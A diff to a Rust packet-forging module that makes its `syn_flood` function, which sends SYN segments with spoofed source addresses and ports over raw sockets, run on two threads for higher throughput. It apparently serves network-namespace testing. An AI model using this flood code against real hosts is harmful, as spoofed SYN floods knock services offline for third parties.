@@ -6,10 +6,11 @@ use std::{
     io,
     net::{Ipv4Addr, SocketAddrV4},
     os::fd::OwnedFd,
+    thread,
     time::{Duration, Instant},
 };
 
-use anyhow::{Context as _, Result, ensure};
+use anyhow::{Context as _, Result, anyhow, ensure};
 use rustix::{
     event::{PollFd, PollFlags, Timespec, poll},
     net::{self, AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, netdevice},
@@ -166,6 +167,19 @@ impl Forge {
 /// # Errors
 /// The kernel refuses raw sockets.
 pub fn syn_flood(to: SocketAddrV4, per_second: u32, time: Duration) -> Result<u32> {
+    // One CPU sends, and with it receives, some ten thousands a second. Threads are in the namespace of who starts them.
+    thread::scope(|scope| {
+        let part = |first| move || flood_part(to, per_second / FLOODERS, time, first);
+        let flooders: Vec<_> = (0..FLOODERS).map(|first| scope.spawn(part(first))).collect();
+        flooders.into_iter().map(|flooder| flooder.join().map_err(|_| anyhow!("a flooder panicked"))?).sum()
+    })
+}
+
+/// Threads of a flood.
+const FLOODERS: u32 = 2;
+
+/// A part of a flood: each of [`FLOODERS`] begins at another number.
+fn flood_part(to: SocketAddrV4, per_second: u32, time: Duration, first: u32) -> Result<u32> {
     let raw = net::socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(net::ipproto::RAW))?;
     let (start, mut sent) = (Instant::now(), 0u32);
     loop {
@@ -175,7 +189,7 @@ pub fn syn_flood(to: SocketAddrV4, per_second: u32, time: Duration) -> Result<u3
         }
         let due = (passed.as_secs_f64() * f64::from(per_second)) as u32;
         let until = due.min(sent + 1000);
-        for n in sent..until {
+        for n in (sent..until).map(|n| n * FLOODERS + first) {
             let [_, a, b, c] = (n / 30_000).to_be_bytes();
             let source = SocketAddrV4::new([FLOOD[0], FLOOD[1] | (a & 1), b, c].into(), 1025 + (n % 30_000) as u16);
             let segment = Segment {
